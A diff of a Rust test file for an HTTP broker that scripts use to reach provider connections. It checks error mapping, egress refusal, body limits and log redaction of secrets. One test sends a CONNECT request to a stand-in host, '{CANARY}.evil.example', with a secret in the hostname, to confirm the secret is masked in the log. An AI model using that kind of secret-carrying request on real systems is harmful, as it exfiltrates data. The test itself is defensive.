@@ -67,9 +67,18 @@ async fn a_connection_that_is_not_there_is_answered_with_those_that_are() {
         assert!(detail.contains("mail, shop"), "{detail}");
     }
     for target in ["/", "/c", "/shop", "*"] {
-        assert_eq!(status(&send(address, "OPTIONS", target, &[], "").await), 404, "{target}");
+        assert_eq!(
+            status(&send(address, "OPTIONS", target, &[], "").await),
+            404,
+            "{target}"
+        );
     }
-    assert!(log(server).await.iter().any(|line| line.contains("GET /c/stripe/charges")));
+    assert!(
+        log(server)
+            .await
+            .iter()
+            .any(|line| line.contains("GET /c/stripe/charges"))
+    );
 }
 
 #[tokio::test]
@@ -147,7 +156,10 @@ async fn only_changes_get_a_key_and_the_scripts_own_counts_more() {
     assert_eq!(keys[3].as_deref(), Some("mine"));
     assert!(keys[4].is_some() && keys[4] == keys[5] && keys[5] != keys[6]);
     let seen = provider.seen();
-    assert!(seen.iter().all(|(request, _)| !request.headers().contains_key("xp-effect-key")));
+    assert!(
+        seen.iter()
+            .all(|(request, _)| !request.headers().contains_key("xp-effect-key"))
+    );
     assert_eq!(seen[3].1.effect_key, None);
 
     let malformed = send(address, "POST", "/c/shop/x", &[("xp-effect-key", "")], "").await;
@@ -172,7 +184,12 @@ async fn a_failure_says_what_a_script_should_do() {
             Some(1..=1),
         ),
         (Error::new(Code::CredentialsRefused, "no"), 424, "reauthorize", None),
-        (Error::new(Code::EgressRefused, "no").with("rule", "loopback"), 403, "never", None),
+        (
+            Error::new(Code::EgressRefused, "no").with("rule", "loopback"),
+            403,
+            "never",
+            None,
+        ),
         (Error::new(Code::DeadlineExceeded, "late"), 504, "later", Some(5..=5)),
     ] {
         let error = error.with("secret", CANARY).caused_by(std::io::Error::other(CANARY));
@@ -191,7 +208,10 @@ async fn a_failure_says_what_a_script_should_do() {
         }
         assert!(!answer.contains(CANARY), "{answer}");
         let log = log(server).await;
-        assert!(log.len() == 1 && log[0].contains(code_text) && !log[0].contains(CANARY), "{log:?}");
+        assert!(
+            log.len() == 1 && log[0].contains(code_text) && !log[0].contains(CANARY),
+            "{log:?}"
+        );
     }
 }
 
@@ -199,20 +219,29 @@ async fn a_failure_says_what_a_script_should_do() {
 async fn a_provider_that_answers_badly_is_passed_on_or_told_of() {
     let provider = Provider::new(|request| {
         let response = Response::builder().status(request.uri().path()[1..].parse::<u16>().unwrap());
-        Ok(response.header("retry-after", "7").body(Bytes::from_static(b"as it is")).unwrap())
+        Ok(response
+            .header("retry-after", "7")
+            .body(Bytes::from_static(b"as it is"))
+            .unwrap())
     });
     let (_server, address) = start(shop(&provider));
     for code in [503, 401, 429, 404, 302] {
         let answer = send(address, "GET", &format!("/c/shop/{code}"), &[], "").await;
         assert_eq!((status(&answer), body(&answer)), (code, "as it is"));
-        assert_eq!((header(&answer, "retry-after"), header(&answer, "xp-error")), (Some("7"), None));
+        assert_eq!(
+            (header(&answer, "retry-after"), header(&answer, "xp-error")),
+            (Some("7"), None)
+        );
     }
     for code in [204, 304] {
         let answer = send(address, "GET", &format!("/c/shop/{code}"), &[], "").await;
         assert_eq!((status(&answer), body(&answer)), (code, ""));
     }
     let answer = send(address, "GET", "/c/shop/101", &[], "").await;
-    assert_eq!((status(&answer), header(&answer, "xp-error")), (502, Some("provider-error")));
+    assert_eq!(
+        (status(&answer), header(&answer, "xp-error")),
+        (502, Some("provider-error"))
+    );
     let answer = send(address, "HEAD", "/c/shop/200", &[], "").await;
     assert_eq!((status(&answer), body(&answer)), (200, ""));
 }
@@ -240,7 +269,10 @@ async fn bodies_have_a_limit_in_both_directions() {
     let chunk = format!("3e8\r\n{fits}\r\n1\r\nx\r\n0\r\n\r\n");
     let chunked = format!("POST /c/shop/x HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\n{chunk}");
     let chunked = exchange(address, chunked).await;
-    assert_eq!((status(&chunked), json(&chunked)["code"].as_str()), (413, Some("body-too-large")));
+    assert_eq!(
+        (status(&chunked), json(&chunked)["code"].as_str()),
+        (413, Some("body-too-large"))
+    );
     // A length that nobody has memory for.
     let huge = "POST /c/shop/x HTTP/1.1\r\nconnection: close\r\ncontent-length: 9223372036854775807\r\n\r\nx";
     assert_eq!(status(&exchange(address, huge).await), 413);
@@ -251,7 +283,10 @@ async fn bodies_have_a_limit_in_both_directions() {
     policy.limits.body = 1000;
     let (_server, address) = start(policy);
     let answer = send(address, "GET", "/c/shop/x", &[], "").await;
-    assert_eq!((status(&answer), header(&answer, "xp-error")), (502, Some("response-too-large")));
+    assert_eq!(
+        (status(&answer), header(&answer, "xp-error")),
+        (502, Some("response-too-large"))
+    );
 }
 
 /// Answers when it is told to.
@@ -304,8 +339,8 @@ async fn a_provider_that_takes_long_is_waited_for() {
     let mut policy = policy(Egress::Broker);
     let client = ConnectionClient::new(Arc::clone(&slow) as Arc<dyn Transport>);
     policy.connections.insert("shop".to_owned(), client);
-    let (_server, address) = start(policy);
-    let call = tokio::spawn(async move { send(address, "GET", "/c/shop/", &[], "").await });
+    let (_shared, near) = dial(policy);
+    let call = tokio::spawn(exchange_over(near, request("GET", "/c/shop/", &[], "")));
     slow.began.notified().await;
     tokio::time::sleep(Limits::default().idle * 3).await;
     slow.go.notify_one();
@@ -321,7 +356,10 @@ async fn it_serves_a_socket_in_a_folder_too() {
     let provider = Provider::echo();
     let server = Server::start(Listener::Unix(listener), shop(&provider)).unwrap();
     let mut stream = tokio::net::UnixStream::connect(&path).await.unwrap();
-    stream.write_all(request("POST", "/c/shop/x", &[], "hello").as_bytes()).await.unwrap();
+    stream
+        .write_all(request("POST", "/c/shop/x", &[], "hello").as_bytes())
+        .await
+        .unwrap();
     let mut answer = String::new();
     stream.read_to_string(&mut answer).await.unwrap();
     assert_eq!((status(&answer), body(&answer)), (200, "hello"));
@@ -338,5 +376,8 @@ async fn secrets_that_the_run_has_sent_are_not_in_the_log() {
     send(address, "GET", &format!("/x/{CANARY}"), &[], "").await;
     send(address, "CONNECT", &format!("{CANARY}.evil.example:443"), &[], "").await;
     let log = log(server).await;
-    assert!(log.len() == 2 && log.iter().all(|line| line.contains("[secret]")), "{log:?}");
+    assert!(
+        log.len() == 2 && log.iter().all(|line| line.contains("[secret]")),
+        "{log:?}"
+    );
 }
